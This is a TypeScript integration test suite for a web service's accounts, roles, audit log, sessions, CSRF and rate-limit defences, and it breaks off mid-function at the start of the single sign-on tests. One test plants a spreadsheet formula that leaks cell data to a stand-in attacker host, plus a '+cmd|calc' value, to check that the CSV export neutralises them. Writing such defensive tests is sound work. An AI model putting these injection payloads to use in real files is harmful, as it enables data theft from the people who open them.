import type {
  ApiKeyCreated,
  AuditList,
  CallList,
  InvitationCreated,
  InvitationPreview,
  MemberList,
  ProjectCreated,
  ProjectInfo,
  ResetLink,
  SessionList,
  SsoConnectionInfo,
} from '@rtcscope/protocol';
import { io } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { handshake, ingestSocket, send, startTestServer, type TestServer } from './harness.js';
import { TestDnsServer } from './dns-server.js';
import { linkToken, MailReceiver } from './mail-receiver.js';
import { TestOpenIdProvider } from './oidc-provider.js';
import { Browser } from './people.js';
import { makeLink } from '../src/identity/accounts/links.js';
import { pruneAccounts } from '../src/identity/accounts/prune.js';

const PASSWORD = 'correct horse battery';
let t: TestServer;
let dns: TestDnsServer;
const logs: string[] = [];
/** Every secret the tests handle, which no log line may hold. */
const secrets = new Set<string>([PASSWORD]);
beforeAll(async () => {
  dns = await TestDnsServer.start();
  t = await startTestServer(0, {
    logs,
    signInLimits: { accountFailures: 5, addressFailures: 1000, addressRequests: 1000 },
    dnsServers: [dns.address],
  });
});
afterAll(async () => {
  await t.close();
  await dns.stop();
});

const remember = (b: Browser) => {
  for (const v of b.cookies.values()) secrets.add(v);
  if (b.csrf) secrets.add(b.csrf);
  return b;
};

/** An owner with an organization and a project in it. */
async function owner(email: string) {
  const b = new Browser(t.url);
  const me = await b.signUp(email, PASSWORD);
  const orgId = me.organizations[0]!.id;
  const made = await b.request<ProjectCreated>('POST', `/orgs/${orgId}/projects`, { name: 'Web app' });
  expect(made.status).toBe(201);
  b.project = made.body.project.id;
  return { b: remember(b), orgId, projectId: made.body.project.id, ingestKey: made.body.ingestKey };
}

/** Someone who accepted an invitation of `by` with `role` (the link as the answer gave it: no mail here). */
async function invited(by: Browser, orgId: string, email: string, role: 'admin' | 'member' | 'viewer') {
  const inv = await by.request<InvitationCreated>('POST', `/orgs/${orgId}/invitations`, { email, role });
  expect(inv.status).toBe(201);
  expect(inv.body).toMatchObject({ mailed: false, link: expect.stringMatching(/\/invite#token=iv_/) });
  const token = linkToken(inv.body.link!);
  secrets.add(token);
  const b = new Browser(t.url);
  expect((await b.request<InvitationPreview>('POST', '/auth/invitations/preview', { token })).body).toMatchObject({
    email,
    role,
    account: false,
  });
  expect((await b.request('POST', '/auth/invitations/accept', { token, name: 'New person', password: PASSWORD })).status).toBe(204);
  await b.me();
  b.project = by.project;
  return remember(b);
}

describe('people, organizations and roles', () => {
  it('an owner signs up, makes a project and invites a viewer, who reads its calls but cannot change its keys', async () => {
    const o = await owner('ada@example.com');
    const sdk = await ingestSocket(
      t.url,
      handshake({ projectId: o.projectId, name: 'Web app', ingestKey: o.ingestKey, apiKey: '' }, 'call-1', 'alice'),
    );
    expect(await send(sdk, { n: 0, t0: Date.now(), conns: [{ i: 0, key: 'pc1' }], c: [[0, 0, 0, 20]] })).toMatchObject({ ok: true });
    sdk.disconnect();

    const viewer = await invited(o.b, o.orgId, 'vic@example.com', 'viewer');
    const me = await viewer.me();
    expect(me.organizations).toEqual([
      { id: o.orgId, name: "ada@example.com's team", role: 'viewer', projects: [{ id: o.projectId, name: 'Web app' }], can: ['read'] },
    ]);
    expect((await viewer.request<CallList>('GET', '/calls')).body.calls.map((c) => c.id)).toEqual(['call-1']);

    const before = (await o.b.request<ProjectInfo>('GET', '/project')).body.ingestKey;
    const refused = await viewer.request<{ message: string }>('POST', '/project/ingest-key');
    expect(refused.status).toBe(403);
    expect(refused.body.message).toBe('this needs the admin role or above in the organization; yours is viewer');
    expect((await viewer.request('PATCH', '/project', { retentionDays: 7 })).status).toBe(403);
    expect((await o.b.request<ProjectInfo>('GET', '/project')).body).toMatchObject({ ingestKey: before, retentionDays: 30 });

    // The owner can; the audit log says who did what, from where.
    expect((await o.b.request('POST', '/project/ingest-key')).status).toBe(200);
    const audit = await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit`);
    expect(audit.body.events.map((e) => [e.action, e.actor.label, e.target])).toEqual([
      ['ingest-key.replaced', 'ada@example.com', 'Web app'],
      ['session.signed-in', 'vic@example.com', null],
      ['member.joined', 'vic@example.com', 'vic@example.com'],
      ['member.invited', 'ada@example.com', 'vic@example.com'],
      ['project.created', 'ada@example.com', 'Web app'],
      ['session.signed-in', 'ada@example.com', null],
      ['organization.created', 'ada@example.com', "ada@example.com's team"],
    ]);
    expect(audit.body.events[0]!.ip).toBe('127.0.0.1');
    expect((await viewer.request('GET', `/orgs/${o.orgId}/audit`)).status).toBe(403);
  });

  it('keeps tenants apart: a person of another organization sees none of its projects, members or log', async () => {
    const a = await owner('ann@example.com');
    const b = await owner('bob@example.com');
    b.b.project = a.projectId;
    for (const [method, path] of [
      ['GET', '/calls'],
      ['GET', '/project'],
      ['GET', `/orgs/${a.orgId}/members`],
      ['GET', `/orgs/${a.orgId}/audit`],
    ] as const) {
      expect((await b.b.request(method, path)).status, path).toBe(404);
    }
    expect((await b.b.request('POST', `/orgs/${a.orgId}/invitations`, { email: 'mallory@example.com', role: 'owner' })).status).toBe(404);
    expect((await a.b.request<MemberList>('GET', `/orgs/${a.orgId}/members`)).body.invitations).toEqual([]);
  });

  it('changes roles within bounds: the last owner stays, only an owner makes owners, a removed member loses access at once', async () => {
    const o = await owner('olga@example.com');
    const admin = await invited(o.b, o.orgId, 'adam@example.com', 'admin');
    const member = await invited(o.b, o.orgId, 'mia@example.com', 'member');
    const ids = Object.fromEntries(
      (await o.b.request<MemberList>('GET', `/orgs/${o.orgId}/members`)).body.members.map((m) => [m.email, m.userId]),
    );
    // The list says what its reader may do to each, by the same rules the changes below meet.
    const mayDo = async (b: typeof admin) => {
      const list = (await b.request<MemberList>('GET', `/orgs/${o.orgId}/members`)).body;
      return { assignable: list.assignable, members: Object.fromEntries(list.members.map((m) => [m.email, [m.canChange, m.canRemove]])) };
    };
    expect(await mayDo(admin)).toEqual({
      assignable: ['viewer', 'member', 'admin'],
      members: { 'adam@example.com': [true, true], 'mia@example.com': [true, true], 'olga@example.com': [false, false] },
    });
    expect(await mayDo(member)).toEqual({
      assignable: [],
      members: { 'adam@example.com': [false, false], 'mia@example.com': [false, true], 'olga@example.com': [false, false] },
    });
    expect((await mayDo(o.b)).members).toEqual({
      'adam@example.com': [true, true],
      'mia@example.com': [true, true],
      'olga@example.com': [true, false],
    });

    expect((await o.b.request('PUT', `/orgs/${o.orgId}/members/${ids['olga@example.com']}`, { role: 'admin' })).status).toBe(409);
    expect((await admin.request('PUT', `/orgs/${o.orgId}/members/${ids['mia@example.com']}`, { role: 'owner' })).status).toBe(403);
    expect((await admin.request('DELETE', `/orgs/${o.orgId}/members/${ids['olga@example.com']}`)).status).toBe(403);
    expect((await member.request('PUT', `/orgs/${o.orgId}/members/${ids['mia@example.com']}`, { role: 'admin' })).status).toBe(403);
    expect((await admin.request('PUT', `/orgs/${o.orgId}/members/${ids['mia@example.com']}`, { role: 'viewer' })).status).toBe(204);
    expect((await member.request('POST', '/alerts/rules', {})).status).toBe(403);

    // Watching live when removed: the socket is ended, and the next request refused. (A connection of
    // its own: a shared one would carry another socket's headers.)
    const cookie = [...member.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    const socket = io(`${t.url}/live`, {
      auth: { project: o.projectId },
      extraHeaders: { cookie },
      transports: ['websocket'],
      forceNew: true,
    });
    await socket.timeout(5000).emitWithAck('subscribe', { calls: true });
    const ended = new Promise<string>((resolve) => socket.once('disconnect', resolve));
    expect((await admin.request('DELETE', `/orgs/${o.orgId}/members/${ids['mia@example.com']}`)).status).toBe(204);
    expect(await ended).toBe('io server disconnect');
    expect((await member.request('GET', '/calls')).status).toBe(404);
    expect((await member.me()).organizations).toEqual([]);

    // Leaving is one's own: the admin may; the last owner may not.
    expect((await o.b.request('DELETE', `/orgs/${o.orgId}/membership`)).status).toBe(409);
    expect((await admin.request('DELETE', `/orgs/${o.orgId}/membership`)).status).toBe(204);
    expect((await admin.me()).organizations).toEqual([]);
    expect(
      (await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit?action=member.left`)).body.events.map((e) => e.actor.label),
    ).toEqual(['adam@example.com']);
  });

  it('deletes a project, and the organization, only when its owner confirms it by name', async () => {
    const o = await owner('dora@example.com');
    const admin = await invited(o.b, o.orgId, 'dan@example.com', 'admin');
    expect((await admin.request('DELETE', `/orgs/${o.orgId}/projects/${o.projectId}`, { confirm: 'Web app' })).status).toBe(403);
    expect((await o.b.request('DELETE', `/orgs/${o.orgId}/projects/${o.projectId}`, { confirm: 'web app' })).status).toBe(409);
    expect((await o.b.request('GET', '/project')).status).toBe(200);
    expect((await o.b.request('DELETE', `/orgs/${o.orgId}/projects/${o.projectId}`, { confirm: 'Web app' })).status).toBe(204);
    expect((await o.b.request('GET', '/project')).status).toBe(404);
    expect((await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit?action=project`)).body.events.map((e) => e.action)).toEqual([
      'project.deleted',
      'project.created',
    ]);
    // A filter is the action's text, not a pattern: "projec_" is no family.
    expect((await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit?action=projec_`)).body.events).toEqual([]);

    // The organization, renamed by an admin, deleted only by its owner, confirmed by its new name.
    expect((await admin.request('PATCH', `/orgs/${o.orgId}`, { name: 'Dora & co' })).status).toBe(204);
    const another = (await o.b.request<ProjectCreated>('POST', `/orgs/${o.orgId}/projects`, { name: 'Second' })).body.project.id;
    expect((await admin.request('DELETE', `/orgs/${o.orgId}`, { confirm: 'Dora & co' })).status).toBe(403);
    expect((await o.b.request('DELETE', `/orgs/${o.orgId}`, { confirm: "dora@example.com's team" })).status).toBe(409);
    expect((await o.b.request('DELETE', `/orgs/${o.orgId}`, { confirm: 'Dora & co' })).status).toBe(204);
    expect((await o.b.me()).organizations).toEqual([]);
    expect((await admin.me()).organizations).toEqual([]);
    expect((await t.db.pool.query('SELECT 1 FROM project WHERE id = $1', [another])).rowCount).toBe(0);
    const { rows } = await t.db.pool.query('SELECT action, target FROM audit_event WHERE organization_id = $1 ORDER BY id DESC LIMIT 3', [
      o.orgId,
    ]);
    expect(rows).toEqual([
      { action: 'organization.deleted', target: 'Dora & co' },
      { action: 'project.deleted', target: 'Second' },
      { action: 'project.created', target: 'Second' },
    ]);
  });

  it('keeps the audit log append-only, filterable and exportable', async () => {
    const o = await owner('abe@example.com');
    await o.b.request('PATCH', '/project', { retentionDays: 90 });
    const key = await o.b.request<ApiKeyCreated>('POST', '/project/keys', { name: 'ci', scopes: ['read'] });
    secrets.add(key.body.apiKey);
    const byAction = await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit?action=project.retention-changed`);
    expect(byAction.body.events).toEqual([
      expect.objectContaining({ action: 'project.retention-changed', detail: { from: 30, to: 90 }, projectId: o.projectId }),
    ]);
    expect((await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit?actor=ABE@example.com&limit=2`)).body).toMatchObject({
      events: { length: 2 },
      next: expect.any(Number),
    });
    const csv = await o.b.request<string>('GET', `/orgs/${o.orgId}/audit/export?format=csv`);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.body.split('\n')[0]).toBe('id,time (UTC),actor kind,actor,action,project id,target,detail,client address');
    expect(csv.body).toContain('key.created');
    const jsonl = await o.b.request<string>('GET', `/orgs/${o.orgId}/audit/export?format=jsonl&action=key`);
    expect(
      jsonl.body
        .trim()
        .split('\n')
        .map((l) => (JSON.parse(l) as { action: string }).action),
    ).toEqual(['key.created']);

    await expect(t.db.pool.query("UPDATE audit_event SET actor_label = 'someone else'")).rejects.toThrow(/append-only/);
    await expect(t.db.pool.query('DELETE FROM audit_event')).rejects.toThrow(/append-only/);
    await expect(t.db.pool.query('TRUNCATE audit_event')).rejects.toThrow(/append-only/);
  });
});

describe('sessions', () => {
  it('sets the cookie HttpOnly, SameSite=Lax, and behind TLS Secure with the __Host- prefix', async () => {
    await owner('cora@example.com');
    const plain = await new Browser(t.url).request('POST', '/auth/sign-in', { email: 'cora@example.com', password: PASSWORD });
    expect(plain.headers.getSetCookie()).toEqual([
      expect.stringMatching(/^rtcscope_session=ss_[\w-]+; Max-Age=2592000; Path=\/; HttpOnly; SameSite=Lax$/),
    ]);
    const proxied = await startTestServer(0, { trustProxy: 1 });
    try {
      const b = new Browser(proxied.url, { 'x-forwarded-proto': 'https', 'x-forwarded-for': '203.0.113.9' });
      await b.signUp('tls@example.com', PASSWORD);
      const signIn = await b.request('POST', '/auth/sign-in', { email: 'tls@example.com', password: PASSWORD });
      expect(signIn.headers.getSetCookie()).toEqual([
        expect.stringMatching(/^__Host-rtcscope_session=ss_[\w-]+; Max-Age=2592000; Path=\/; HttpOnly; Secure; SameSite=Lax$/),
      ]);
      const sessions = await b.request<SessionList>('GET', '/account/sessions');
      expect(sessions.body.sessions.find((s) => s.current)).toMatchObject({ ip: '203.0.113.9', method: 'password' });
    } finally {
      await proxied.close();
    }
  });

  it('ends a session on the server at sign-out, and replaces the one a browser had at sign-in (no fixation)', async () => {
    await owner('fay@example.com');
    const b = new Browser(t.url);
    expect(await b.signIn('fay@example.com', PASSWORD)).toBe(204);
    const first = [...b.cookies.values()][0]!;
    // Signing in again in the same browser: a new token, and the old one opens nothing any more.
    expect(await b.signIn('fay@example.com', PASSWORD)).toBe(204);
    const second = [...b.cookies.values()][0]!;
    expect(second).not.toBe(first);
    const stale = new Browser(t.url);
    stale.cookies.set('rtcscope_session', first);
    expect((await stale.request('GET', '/auth/me')).status).toBe(401);

    // A token planted in the browser before sign-in (by an attacker who has one of their own) is ended, not kept.
    const attacker = new Browser(t.url);
    await attacker.signUp('mal@example.com', PASSWORD);
    const planted = [...attacker.cookies.values()][0]!;
    const victim = new Browser(t.url);
    victim.cookies.set('rtcscope_session', planted);
    expect(await victim.signIn('fay@example.com', PASSWORD)).toBe(204);
    expect([...victim.cookies.values()][0]).not.toBe(planted);
    expect((await attacker.request('GET', '/auth/me')).status).toBe(401);

    expect((await b.request('POST', '/auth/sign-out')).status).toBe(204);
    expect(b.cookies.size).toBe(0);
    stale.cookies.set('rtcscope_session', second);
    expect((await stale.request('GET', '/auth/me')).status).toBe(401);
    remember(victim);
  });

  it('refuses a change without the CSRF token, with another session’s, or sent from another site, and changes nothing', async () => {
    const o = await owner('gil@example.com');
    const other = remember(new Browser(t.url));
    await other.signUp('hal@example.com', PASSWORD);
    const withToken = async (token: string | null, headers: Record<string, string> = {}) => {
      const saved = o.b.csrf;
      o.b.csrf = token;
      const answer = await o.b.request<{ message: string }>('PATCH', '/project', { retentionDays: 7 }, headers);
      o.b.csrf = saved;
      return answer;
    };
    for (const answer of [await withToken(null), await withToken(other.csrf), await withToken('forged-token')]) {
      expect(answer.status).toBe(403);
      expect(answer.body.message).toMatch(/CSRF token/);
    }
    expect((await o.b.request<ProjectInfo>('GET', '/project')).body.retentionDays).toBe(30);
    // Signing in from another site's page (login CSRF) is refused; from this one it is not.
    const fromElsewhere = await new Browser(t.url).request(
      'POST',
      '/auth/sign-in',
      { email: 'gil@example.com', password: PASSWORD },
      { 'sec-fetch-site': 'cross-site' },
    );
    expect(fromElsewhere.status).toBe(403);
    const fromOrigin = await new Browser(t.url).request(
      'POST',
      '/auth/sign-in',
      { email: 'gil@example.com', password: PASSWORD },
      { origin: 'https://evil.example' },
    );
    expect(fromOrigin.status).toBe(403);
    expect(
      (
        await new Browser(t.url).request(
          'POST',
          '/auth/sign-in',
          { email: 'gil@example.com', password: PASSWORD },
          { 'sec-fetch-site': 'same-origin' },
        )
      ).status,
    ).toBe(204);
  });

  it('counts a wrong password given to accept an invitation as a failed sign-in', async () => {
    const o = await owner('una@example.com');
    await owner('vic2@example.com');
    const inv = await o.b.request<InvitationCreated>('POST', `/orgs/${o.orgId}/invitations`, { email: 'vic2@example.com', role: 'viewer' });
    const token = linkToken(inv.body.link!);
    secrets.add(token);
    const guesser = new Browser(t.url);
    for (let k = 0; k < 5; k++)
      expect((await guesser.request('POST', '/auth/invitations/accept', { token, password: `guess number ${k}` })).status).toBe(401);
    expect((await guesser.request('POST', '/auth/invitations/accept', { token, password: PASSWORD })).status).toBe(429);
    expect(await new Browser(t.url).signIn('vic2@example.com', PASSWORD)).toBe(429);
  });

  it("limits failed sign-ins per account from the guesser's address: over the limit even the right password is refused there", async () => {
    await owner('ivy@example.com');
    const b = new Browser(t.url);
    for (let k = 0; k < 5; k++) expect(await b.signIn('ivy@example.com', 'wrong password')).toBe(401);
    const limited = await b.request<{ message: string }>('POST', '/auth/sign-in', { email: 'IVY@example.com', password: PASSWORD });
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(800);
    // Another account from the same address is not held up by it.
    await owner('jay@example.com');
    expect(await new Browser(t.url).signIn('jay@example.com', PASSWORD)).toBe(204);
  });

  it('limits failed sign-ins per client address: the client behind a trusted proxy, not the proxy', async () => {
    const proxied = await startTestServer(0, {
      trustProxy: 1,
      signInLimits: { accountFailures: 1000, addressFailures: 3, addressRequests: 1000 },
    });
    try {
      const from = (address: string) => new Browser(proxied.url, { 'x-forwarded-for': address });
      for (const email of ['a@example.com', 'b@example.com']) await from('198.51.100.1').signUp(email, PASSWORD);
      const guesser = from('198.51.100.7');
      for (const email of ['a@example.com', 'b@example.com', 'nobody@example.com'])
        expect(await guesser.signIn(email, 'wrong password')).toBe(401);
      expect(await guesser.signIn('a@example.com', PASSWORD)).toBe(429);
      // The proxy's own address is the same for both: the other client is not limited.
      expect(await from('198.51.100.8').signIn('a@example.com', PASSWORD)).toBe(204);
    } finally {
      await proxied.close();
    }
  });

  it("locks the guesser, not the person: the account's owner signs in from elsewhere; guesses from many addresses lock it until a reset link is used", async () => {
    const proxied = await startTestServer(0, {
      trustProxy: 1,
      signInLimits: { accountFailures: 3, addressFailures: 1000, addressRequests: 1000 },
    });
    try {
      const from = (address: string) => new Browser(proxied.url, { 'x-forwarded-for': address });
      const person = from('198.51.100.1');
      await person.signUp('c@example.com', PASSWORD);
      await person.request('POST', '/auth/sign-out');
      for (let k = 0; k < 3; k++) expect(await from('203.0.113.9').signIn('c@example.com', 'wrong password')).toBe(401);
      expect(await from('203.0.113.9').signIn('c@example.com', PASSWORD)).toBe(429);
      expect(await person.signIn('c@example.com', PASSWORD)).toBe(204);
      // Ten times the limit over many addresses: the account waits, but its owner's reset link opens it.
      for (let k = 0; k < 30; k++) expect(await from(`203.0.113.${20 + k}`).signIn('c@example.com', 'wrong password')).toBe(401);
      expect(await from('198.51.100.2').signIn('c@example.com', PASSWORD)).toBe(429);
      const { rows } = await proxied.db.pool.query<{ id: string }>(`SELECT id FROM app_user WHERE email = 'c@example.com'`);
      // The link a reset mail would carry.
      const link = await makeLink(proxied.db.prisma, rows[0]!.id, 'reset');
      expect(
        (await from('198.51.100.2').request('POST', '/auth/password-reset', { token: link.token, password: 'a fresh password' })).status,
      ).toBe(204);
      expect(await from('198.51.100.3').signIn('c@example.com', 'a fresh password')).toBe(204);
    } finally {
      await proxied.close();
    }
  });

  it('a password change ends the other sessions; a reset link an admin made works once', async () => {
    const o = await owner('kim@example.com');
    const member = await invited(o.b, o.orgId, 'lee@example.com', 'member');
    const elsewhere = new Browser(t.url);
    expect(await elsewhere.signIn('lee@example.com', PASSWORD)).toBe(204);
    expect((await member.request('POST', '/account/password', { current: 'not it', password: 'a new long password' })).status).toBe(403);
    expect((await member.request('POST', '/account/password', { current: PASSWORD, password: 'a new long password' })).status).toBe(204);
    secrets.add('a new long password');
    expect((await elsewhere.request('GET', '/auth/me')).status).toBe(401);
    expect((await member.request('GET', '/auth/me')).status).toBe(200);

    const ids = Object.fromEntries(
      (await o.b.request<MemberList>('GET', `/orgs/${o.orgId}/members`)).body.members.map((m) => [m.email, m.userId]),
    );
    const admin = await invited(o.b, o.orgId, 'max@example.com', 'admin');
    expect((await admin.request('POST', `/orgs/${o.orgId}/members/${ids['kim@example.com']}/reset-link`)).status).toBe(403);
    const reset = await admin.request<ResetLink>('POST', `/orgs/${o.orgId}/members/${ids['lee@example.com']}/reset-link`);
    expect(reset.body.link).toMatch(/\/reset-password#token=pr_/);
    const token = linkToken(reset.body.link);
    secrets.add(token);
    const b = new Browser(t.url);
    expect((await b.request('POST', '/auth/password-reset', { token, password: 'the third password' })).status).toBe(204);
    secrets.add('the third password');
    expect((await member.request('GET', '/auth/me')).status).toBe(401);
    expect((await b.me()).user.email).toBe('lee@example.com');
    expect((await new Browser(t.url).request('POST', '/auth/password-reset', { token, password: 'a fourth password' })).status).toBe(401);
    expect(await new Browser(t.url).signIn('lee@example.com', 'the third password')).toBe(204);
    remember(b);
  });
});

describe('attacks on accounts through a role (issue 32)', () => {
  const memberIds = async (b: Browser, orgId: string) =>
    Object.fromEntries((await b.request<MemberList>('GET', `/orgs/${orgId}/members`)).body.members.map((m) => [m.email, m.userId]));

  it('an admin cannot make a reset link for someone who is in an organization the admin does not run, nor demote an admin to make one', async () => {
    const a = await owner('orla@example.com');
    const b = await owner('bram@example.com');
    // Bram, owner of B, is a viewer in A; Alma is an admin of A only.
    await invited(a.b, a.orgId, 'bram2@example.com', 'viewer');
    const admin = await invited(a.b, a.orgId, 'alma@example.com', 'admin');
    // The same person in both: Bram joins A as a viewer with his own account.
    const inv = await a.b.request<InvitationCreated>('POST', `/orgs/${a.orgId}/invitations`, { email: 'bram@example.com', role: 'viewer' });
    expect((await b.b.request('POST', '/auth/invitations/accept', { token: linkToken(inv.body.link!) })).status).toBe(204);
    const ids = await memberIds(a.b, a.orgId);
    const takeover = await admin.request<{ message: string }>('POST', `/orgs/${a.orgId}/members/${ids['bram@example.com']}/reset-link`);
    expect(takeover.status).toBe(403);
    expect(takeover.body.message).toMatch(/you do not administer every organization this person is in/);
    // The owner of A does not run B either.
    expect((await a.b.request('POST', `/orgs/${a.orgId}/members/${ids['bram@example.com']}/reset-link`)).status).toBe(403);
    // Demote, reset, promote again: an admin cannot demote another admin.
    await invited(a.b, a.orgId, 'otto@example.com', 'admin');
    const ottoId = (await memberIds(a.b, a.orgId))['otto@example.com']!;
    const demote = await admin.request<{ message: string }>('PUT', `/orgs/${a.orgId}/members/${ottoId}`, { role: 'viewer' });
    expect(demote.status).toBe(403);
    expect(demote.body.message).toBe('only an owner may change or remove an admin');
    expect((await admin.request('DELETE', `/orgs/${a.orgId}/members/${ottoId}`)).status).toBe(403);
    expect((await admin.request('POST', `/orgs/${a.orgId}/members/${ottoId}/reset-link`)).status).toBe(403);
    expect((await admin.request('POST', `/orgs/${a.orgId}/members/${(await admin.me()).user.id}/reset-link`)).status).toBe(403);
    // A viewer who is in A alone: the admin may make the link, as before.
    expect((await admin.request('POST', `/orgs/${a.orgId}/members/${ids['bram2@example.com']}/reset-link`)).status).toBe(200);
    expect(await new Browser(t.url).signIn('bram@example.com', PASSWORD)).toBe(204);
  });

  it('an invitation cannot unmake an owner; a reset link made before a new password stops working', async () => {
    const o = await owner('ines@example.com');
    const admin = await invited(o.b, o.orgId, 'ivo@example.com', 'admin');
    const again = await admin.request<{ message: string }>('POST', `/orgs/${o.orgId}/invitations`, {
      email: 'INES@example.com',
      role: 'viewer',
    });
    expect(again.status).toBe(409);
    expect(again.body.message).toMatch(/is a member already/);
    expect(
      (await o.b.request<MemberList>('GET', `/orgs/${o.orgId}/members`)).body.members.find((m) => m.email === 'ines@example.com')!.role,
    ).toBe('owner');

    await invited(o.b, o.orgId, 'ida@example.com', 'viewer');
    const id = (await memberIds(o.b, o.orgId))['ida@example.com']!;
    const first = linkToken((await o.b.request<ResetLink>('POST', `/orgs/${o.orgId}/members/${id}/reset-link`)).body.link);
    const second = linkToken((await o.b.request<ResetLink>('POST', `/orgs/${o.orgId}/members/${id}/reset-link`)).body.link);
    secrets.add(first).add(second);
    expect(
      (await new Browser(t.url).request('POST', '/auth/password-reset', { token: second, password: 'ida chose this one' })).status,
    ).toBe(204);
    secrets.add('ida chose this one');
    expect(
      (await new Browser(t.url).request('POST', '/auth/password-reset', { token: first, password: 'the attacker chose this' })).status,
    ).toBe(401);
    expect(await new Browser(t.url).signIn('ida@example.com', 'ida chose this one')).toBe(204);
  });

  it("lets no other site's page open a live socket with a person's cookie", async () => {
    const o = await owner('yael@example.com');
    const cookie = [...o.b.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    const open = (headers: Record<string, string>) =>
      new Promise<string>((resolve) => {
        const socket = io(`${t.url}/live`, {
          auth: { project: o.projectId },
          extraHeaders: { cookie, ...headers },
          transports: ['websocket'],
          forceNew: true,
          reconnection: false,
        });
        socket.once('connect', () => {
          socket.disconnect();
          resolve('connected');
        });
        socket.once('connect_error', (err) => resolve(err.message));
      });
    expect(await open({ origin: 'https://evil.example' })).not.toBe('connected');
    expect(await open({ 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' })).not.toBe('connected');
    expect(await open({ origin: t.url })).toBe('connected');
  });

  it('exports the audit log with text a spreadsheet would run as a formula kept as text', async () => {
    const o = await owner('zoe@example.com');
    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"open")';
    expect((await o.b.request('PATCH', `/orgs/${o.orgId}`, { name: evil })).status).toBe(204);
    expect((await o.b.request('POST', '/project/keys', { name: '+cmd|calc', scopes: ['read'] })).status).toBe(201);
    const csv = (await o.b.request<string>('GET', `/orgs/${o.orgId}/audit/export?format=csv`)).body;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""open"")"`);
    expect(csv).toContain(`,'+cmd|calc,`);
    expect(csv.split('\n').every((line) => !/(^|,)[=+@]/.test(line))).toBe(true);
  });

  it('keys an admin made, and keys made with them, stop working when the admin is removed or no longer an admin', async () => {
    const o = await owner('uma@example.com');
    const own = await o.b.request<ApiKeyCreated>('POST', '/project/keys', { name: "the owner's", scopes: ['read'] });
    secrets.add(own.body.apiKey);
    for (const [email, end] of [
      ['ugo@example.com', 'removed'],
      ['ulla@example.com', 'demoted'],
    ] as const) {
      const admin = await invited(o.b, o.orgId, email, 'admin');
      const made = await admin.request<ApiKeyCreated>('POST', '/project/keys', { name: `${email}'s script`, scopes: ['admin', 'read'] });
      expect(made.status).toBe(201);
      const viaKey = await fetch(`${t.url}/api/v1/project/keys`, {
        method: 'POST',
        headers: { authorization: `Bearer ${made.body.apiKey}`, 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'made with the key', scopes: ['read'] }),
      });
      const second = ((await viaKey.json()) as ApiKeyCreated).apiKey;
      secrets.add(made.body.apiKey).add(second);
      const reads = async (key: string) => (await fetch(`${t.url}/api/v1/calls`, { headers: { authorization: `Bearer ${key}` } })).status;
      expect([await reads(made.body.apiKey), await reads(second)]).toEqual([200, 200]);
      const id = (await memberIds(o.b, o.orgId))[email]!;
      const change =
        end === 'removed'
          ? await o.b.request('DELETE', `/orgs/${o.orgId}/members/${id}`)
          : await o.b.request('PUT', `/orgs/${o.orgId}/members/${id}`, { role: 'member' });
      expect(change.status).toBe(204);
      expect([await reads(made.body.apiKey), await reads(second)]).toEqual([401, 401]);
      const audit = await o.b.request<AuditList>('GET', `/orgs/${o.orgId}/audit?action=member`);
      expect(audit.body.events[0]!.detail).toMatchObject({
        keysRevoked: expect.arrayContaining([`${email}'s script`, 'made with the key']),
      });
    }
    // The owner's own key is untouched.
    expect((await fetch(`${t.url}/api/v1/calls`, { headers: { authorization: `Bearer ${own.body.apiKey}` } })).status).toBe(200);
  });
});

describe('mail', () => {
  it('mails invitations and password resets through the SMTP server, each link good once', async () => {
    const smtp = new MailReceiver();
    const mailed = await startTestServer(0, { smtpUrl: await smtp.start(), publicUrl: 'https://rtcscope.example' });
    try {
      const o = new Browser(mailed.url);
      const me = await o.signUp('nia@example.com', PASSWORD);
      const orgId = me.organizations[0]!.id;
      const inv = await o.request<InvitationCreated>('POST', `/orgs/${orgId}/invitations`, { email: 'Omar@Example.com', role: 'viewer' });
      expect(inv.body).toMatchObject({ mailed: true, link: null });
      const invitation = await smtp.next('omar@example.com');
      expect(invitation.subject).toBe("nia invited you to nia@example.com's team on rtcscope");
      expect(invitation.text).toContain('https://rtcscope.example/invite#token=iv_');
      const token = linkToken(invitation.text);
      const b = new Browser(mailed.url);
      expect((await b.request('POST', '/auth/invitations/accept', { token, name: 'Omar', password: PASSWORD })).status).toBe(204);
      expect((await b.me()).organizations[0]).toMatchObject({ id: orgId, role: 'viewer' });
      expect(
        (await new Browser(mailed.url).request('POST', '/auth/invitations/accept', { token, name: 'Omar', password: PASSWORD })).status,
      ).toBe(404);

      // A reset for an address with no account answers the same, and sends nothing.
      expect((await new Browser(mailed.url).request('POST', '/auth/password-reset/request', { email: 'nobody@example.com' })).status).toBe(
        202,
      );
      expect((await new Browser(mailed.url).request('POST', '/auth/password-reset/request', { email: 'omar@example.com' })).status).toBe(
        202,
      );
      const reset = await smtp.next('omar@example.com');
      expect(smtp.mails).toEqual([]);
      expect(reset.text).toContain('https://rtcscope.example/reset-password#token=pr_');
      expect(
        (
          await new Browser(mailed.url).request('POST', '/auth/password-reset', {
            token: linkToken(reset.text),
            password: 'brand new password',
          })
        ).status,
      ).toBe(204);
      expect(await new Browser(mailed.url).signIn('omar@example.com', 'brand new password')).toBe(204);
    } finally {
      await mailed.close();
      await smtp.close();
    }
  });
});

describe('single sign-on (OpenID Connect)', () => {
  const idp = new TestOpenIdProvider();
  afterAll(() => idp.close());

  /** Signs on in browser `b` as `email` through its organization's provider: where the callback sent it. */
  async function signOn(b: Browser, email: string): Promise<{ status: number; location: string | null; headers: Headers }> {
    const started = await b.request<{ url: string }>('POST', '/auth/sso/start', { email });
    expect(started.status).toBe(200);
    const callback = await idp.signOn(started.body.url);
    expect(callback.startsWith(`${t.url}/api/v1/auth/sso/callback?`)).toBe(true);
    for (const name of ['code', 'state']) secrets.add(new URL(callback).searchParams.get(name)!);
